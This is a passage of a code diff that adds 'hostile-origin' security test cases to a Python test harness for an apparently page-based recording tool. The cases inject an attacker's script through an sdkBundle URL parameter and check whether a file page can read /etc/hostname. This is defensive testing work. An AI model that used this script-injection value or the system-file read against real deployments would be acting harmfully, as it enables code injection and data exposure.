+            if not fx.ensure():
+                o.problem(fx.error)
+            else:
+                fn(o)
+                check_alive(o, fx)
+            return [o]
+        cases.append(Case("hostile-origin", name, layer, quick=True))
+    bundle = "?sdkBundle="
+    for label, fixture, url_of, wait in (
+            ("sdkBundle alone: the bundled page over http with sdkBundle=<the attacker's "
+             "script>", fx,
+             lambda site: f"{site.url}/page/record_page.html{bundle}{site.url}/evil.js", True),
+            ("sdkBundle alone: the bundled page as a file (--allow-file-pages) with "
+             "sdkBundle=<the attacker's script>", files_fx,
+             lambda site: f"{probe.page.as_uri()}{bundle}{site.url}/evil.js", True),
+            ("sdkBundle alone: the bundled page as a file (--allow-file-pages) with "
+             "sdkBundle=file:// of a planted script", files_fx,
+             lambda site: f"{probe.page.as_uri()}{bundle}"
+                          f"{(probe.workdir / 'evil-file.js').as_uri()}", True),
+            ("file access alone: a file page (--allow-file-pages) reading /etc/hostname and "
+             "a planted file", files_fx,
+             lambda site: (probe.pages / "file-reader.html").as_uri(), False)):
+        name = f"hostile-origin/{label}"
+        case = Case("hostile-origin", name, script_case(probe, fixture, name, url_of, wait),
+                    quick=True, slow=True)
+        cases.append(case)
+    for fixture in (fx, files_fx):
+        def stop(fixture=fixture):
+            if fixture.proc is not None:
+                fixture.proc.signal(signal.SIGTERM)
+                fixture.proc.finish(20 * probe.scale)
+            return []
+        case = Case("hostile-origin", f"hostile-origin/{fixture.label}: stopped", stop,
+                    quick=True)
+        case.last = True
+        cases.append(case)
+    return cases
+
+
+# ---------------------------------------------------------------------------------------
 # Running
 
 
@@ -2842,7 +3910,7 @@ def markdown(rows):
 def build_cases(probe, categories):
     makers = {"options": option_cases, "pages": page_cases, "ready-servers": ready_cases,
               "cloud-api": cloud_api_cases, "killed-recordings": killed_cases,
-              "secrets": secret_cases}
+              "secrets": secret_cases, "hostile-origin": hostile_origin_cases}
     return {c: makers[c](probe) for c in categories}
 
 
@@ -2891,6 +3959,8 @@ def main():
         chosen = {c: selected(cases, args) for c, cases in all_cases.items()}
         runner.total = sum(max(1, len(getattr(x, "names", []) or [1]))
                            for cases in chosen.values() for x in cases)
+        for category, why in probe.not_run.items():
+            log(f"== {category}: not run: {why}")
         for category in categories:
             if not chosen[category]:
                 continue
@@ -2904,6 +3974,8 @@ def main():
         for proc in probe.procs:
             if proc.alive() or group_members(proc.pid):
                 proc.kill_group()
+        if probe.site is not None:
+            probe.site.close()
     elapsed = time.monotonic() - start
     try:
         changed = probe.rebuilt or probe.binary.stat().st_mtime != built
@@ -2928,6 +4000,7 @@ def main():
         "binary_changed_during_run": changed,
         "workdir": str(probe.workdir),
         "table": rows,
+        "not_run": probe.not_run,
         "failures": [{"category": o.category, "name": o.name, "kind": o.kind,
                       "what": o.what(), "notes": o.notes, "repro": o.repro}
                      for o in failures],
@@ -2936,6 +4009,8 @@ def main():
         print(json.dumps(summary, indent=2, ensure_ascii=False))
     else:
         print(markdown(rows))
+        for category, why in probe.not_run.items():
+            print(f"\n{category}: not run ({why})")
         if args.json:
             Path(args.json).write_text(json.dumps(summary, indent=2, ensure_ascii=False) + "\n")
     if probe.own_workdir and not failures:
